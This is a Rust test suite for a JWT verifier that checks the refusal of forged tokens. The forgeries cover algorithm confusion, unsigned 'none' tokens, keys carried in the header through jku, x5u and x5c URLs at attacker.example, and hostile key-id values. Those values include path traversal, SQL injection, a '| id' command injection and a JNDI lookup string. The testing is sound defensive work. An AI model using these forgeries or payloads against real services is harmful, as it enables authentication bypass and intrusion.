//! Attacks on a verifier that has keys of several kinds (RFC 8725, sections 2 and 3): each forgery here is good for one
//! that lets the token choose its algorithm or its key.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use jsonwebtoken::crypto;
use serde_json::{Value, json};
use steward_testkit::at;
use steward_testkit::signing_keys::{ED25519, ED25519_ID, ED25519_NEXT, ED25519_PUBLIC, P256, P256_PUBLIC};

use super::tests::{KEY, claims};
use super::*;
use crate::testing::signing_with;

/// Has every kind of key: Ed25519 signs, P-256 and the secret check.
fn tokens() -> Tokens {
    Tokens::new(&TokenKeys { current: KEY.into(), ..signing_with(ED25519, Some(P256_PUBLIC)) })
}

fn signing(pem: &str) -> EncodingKey {
    SigningKey::from_pem(&pem.into()).unwrap().signing
}

fn id(pem: &str) -> String {
    PublicKey::from_pem(&pem.into()).unwrap().id().to_owned()
}

fn unsigned(header: &Value) -> String {
    format!("{}.{}", URL_SAFE_NO_PAD.encode(header.to_string()), URL_SAFE_NO_PAD.encode(claims().to_string()))
}

/// A token with this header, signed with this key by this algorithm, whatever the header says.
fn token(header: &Value, key: &EncodingKey, algorithm: Algorithm) -> String {
    let message = unsigned(header);
    let signature = crypto::sign(message.as_bytes(), key, algorithm).unwrap();
    format!("{message}.{signature}")
}

#[track_caller]
fn is_good(token: &str) -> bool {
    tokens().verify(token, at(1)).is_ok()
}

/// What makes a forgery of the tests below is the key alone: with the right one each kind of token is good.
#[test]
fn the_right_key_by_its_own_algorithm_is_good() {
    let (ed25519, p256) = (id(ED25519), id(P256));
    assert!(is_good(&token(&json!({"alg": "EdDSA", "kid": ed25519}), &signing(ED25519), Algorithm::EdDSA)));
    assert!(is_good(&token(&json!({"alg": "ES256", "kid": p256}), &signing(P256), Algorithm::ES256)));
    let secret = EncodingKey::from_secret(KEY.as_bytes());
    assert!(is_good(&token(&json!({"alg": "HS256"}), &secret, Algorithm::HS256)));
}

#[test]
fn a_public_key_is_no_secret() {
    for pem in [ED25519_PUBLIC, P256_PUBLIC] {
        let key = PublicKey::from_pem(&pem.into()).unwrap();
        let der = STANDARD.decode(pem.lines().filter(|line| !line.starts_with('-')).collect::<String>()).unwrap();
        let jwk = key.jwk();
        let (x, y) = (&jwk.x, jwk.y.clone().unwrap_or_default());
        let coordinates = [URL_SAFE_NO_PAD.decode(x).unwrap(), URL_SAFE_NO_PAD.decode(&y).unwrap()].concat();
        for bytes in [
            pem.as_bytes(),
            pem.trim_end().as_bytes(),
            &der,
            key.checking.try_get_as_bytes().unwrap(),
            &coordinates,
            x.as_bytes(),
            key.id().as_bytes(),
            serde_json::to_string(jwk).unwrap().as_bytes(),
            serde_json::to_string(&tokens().published()).unwrap().as_bytes(),
            b"",
        ] {
            let secret = EncodingKey::from_secret(bytes);
            for header in [
                json!({"alg": "HS256", "kid": key.id()}),
                json!({"alg": "HS256"}),
                json!({"alg": jwk.alg, "kid": key.id()}),
                json!({"alg": jwk.alg}),
            ] {
                assert!(!is_good(&token(&header, &secret, Algorithm::HS256)), "{header}: {bytes:?}");
            }
        }
    }
}

#[test]
fn a_key_is_good_for_its_own_algorithm_alone() {
    let secret = EncodingKey::from_secret(KEY.as_bytes());
    let named = [id(ED25519), id(P256)];
    // The secret itself does not sign what names another key.
    for kid in &named {
        assert!(!is_good(&token(&json!({"alg": "HS256", "kid": kid}), &secret, Algorithm::HS256)));
    }
    for (pem, algorithm, own) in [(ED25519, Algorithm::EdDSA, "EdDSA"), (P256, Algorithm::ES256, "ES256")] {
        for alg in ["HS256", "HS384", "HS512", "ES256", "ES384", "EdDSA", "RS256", "PS256", "none"] {
            for kid in named.iter().map(Some).chain([None]) {
                let header = json!({"alg": alg, "kid": kid});
                let right = alg == own && kid == Some(&id(pem));
                assert_eq!(is_good(&token(&header, &signing(pem), algorithm)), right, "{header}");
            }
        }
    }
}

#[test]
fn a_token_that_nobody_signed_is_refused() {
    for alg in ["none", "None", "NONE", "nOnE", "", "EdDSA", "ES256", "HS256"] {
        for kid in [Some(id(ED25519)), Some(id(P256)), None] {
            let message = unsigned(&json!({"alg": alg, "kid": kid}));
            for signature in ["", ".", ".AA", &format!(".{}", "A".repeat(43)), &format!(".{}", "A".repeat(86))] {
                assert!(!is_good(&format!("{message}{signature}")), "{alg} {kid:?} {signature}");
            }
        }
    }
}

#[test]
fn a_key_that_is_not_ours_is_not_asked_whoever_it_says_it_is() {
    let foreign = signing(ED25519_NEXT);
    for kid in [Some(id(ED25519_NEXT)), Some(id(ED25519)), Some(id(P256)), None] {
        let header = json!({"alg": "EdDSA", "kid": kid});
        assert!(!is_good(&token(&header, &foreign, Algorithm::EdDSA)), "{header}");
    }
}

/// CVE-2018-0114 and its like.
#[test]
fn a_key_that_the_token_brings_along_is_ignored() {
    let foreign = PublicKey::from_pem(&ED25519_NEXT.into()).unwrap();
    let certificate = STANDARD.encode(foreign.jwk().x.as_bytes());
    for brought in [
        json!({"jwk": foreign.jwk()}),
        json!({"jku": "https://attacker.example/jwks.json"}),
        json!({"jku": "file:///tmp/jwks.json"}),
        json!({"x5u": "https://attacker.example/chain.pem"}),
        json!({"x5c": [certificate]}),
        json!({"jwk": foreign.jwk(), "jku": "https://attacker.example/jwks.json", "x5c": [certificate]}),
    ] {
        let with = |kid: Option<&str>| {
            let mut header = json!({"alg": "EdDSA"});
            header.as_object_mut().unwrap().extend(brought.as_object().unwrap().clone());
            header.as_object_mut().unwrap().extend(kid.map(|kid| ("kid".to_owned(), kid.into())));
            header
        };
        for kid in [None, Some(foreign.id()), Some(ED25519_ID)] {
            let header = with(kid);
            assert!(!is_good(&token(&header, &signing(ED25519_NEXT), Algorithm::EdDSA)), "{header}");
        }
        // It does no good, and no harm either.
        let header = with(Some(ED25519_ID));
        assert!(is_good(&token(&header, &signing(ED25519), Algorithm::EdDSA)), "{header}");
    }
}

#[test]
fn a_key_id_is_compared_and_nothing_else_is_done_with_it() {
    let trap = format!("{ED25519_ID}\0");
    let long = "k".repeat(2000);
    for kid in [
        "",
        " ",
        "0",
        "../../../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "https://attacker.example/key",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "| id",
        "${jndi:ldap://attacker.example/a}",
        "\0",
        "키",
        &trap,
        &long,
        &ED25519_ID.to_lowercase(),
        &ED25519_ID[..42],
        &format!(" {ED25519_ID}"),
    ] {
        // Signed with what such a name would find: an empty file, the key of a row, our own secret, our own key.
        for secret in ["", "secret", "1", KEY] {
            let header = json!({"alg": "HS256", "kid": kid});
            assert!(
                !is_good(&token(&header, &EncodingKey::from_secret(secret.as_bytes()), Algorithm::HS256)),
                "{header}"
            );
        }
        let header = json!({"alg": "EdDSA", "kid": kid});
        assert!(!is_good(&token(&header, &signing(ED25519), Algorithm::EdDSA)), "{header}");
    }
}

#[test]
fn a_header_may_be_large_up_to_the_size_of_any_token() {
    let with_padding = |length: usize| {
        let header = json!({"alg": "EdDSA", "kid": ED25519_ID, "padding": "x".repeat(length)});
        token(&header, &signing(ED25519), Algorithm::EdDSA)
    };
    assert!(is_good(&with_padding(100)));
    for length in [MAX_LENGTH, 10 * MAX_LENGTH] {
        assert!(!is_good(&with_padding(length)));
    }
    let long = json!({"alg": "EdDSA", "kid": "k".repeat(MAX_LENGTH)});
    assert!(!is_good(&token(&long, &signing(ED25519), Algorithm::EdDSA)));
    let deep = (0..600).fold(json!(1), |inner, _| json!([inner]));
    let deep = json!({"alg": "EdDSA", "kid": ED25519_ID, "padding": deep});
    assert!(!is_good(&token(&deep, &signing(ED25519), Algorithm::EdDSA)));
}

#[test]
fn an_extension_that_must_be_understood_is_refused() {
    let header = json!({"alg": "EdDSA", "kid": ED25519_ID, "crit": ["b64"], "b64": false});
    assert!(!is_good(&token(&header, &signing(ED25519), Algorithm::EdDSA)));
}

#[test]
fn whatever_is_changed_breaks_it() {
    // A quarter of the bytes: checking with these keys takes its time.
    for (pem, alg, algorithm) in [(ED25519, "EdDSA", Algorithm::EdDSA), (P256, "ES256", Algorithm::ES256)] {
        let token = token(&json!({"alg": alg, "kid": id(pem)}), &signing(pem), algorithm);
        assert!(is_good(&token));
        for at_byte in (0..token.len()).step_by(4).chain([token.len() - 1]) {
            let mut bytes = token.clone().into_bytes();
            bytes[at_byte] = if bytes[at_byte] == b'A' { b'Q' } else { b'A' };
            assert!(!is_good(&String::from_utf8(bytes).unwrap()), "{alg}, byte {at_byte}");
        }
    }
}
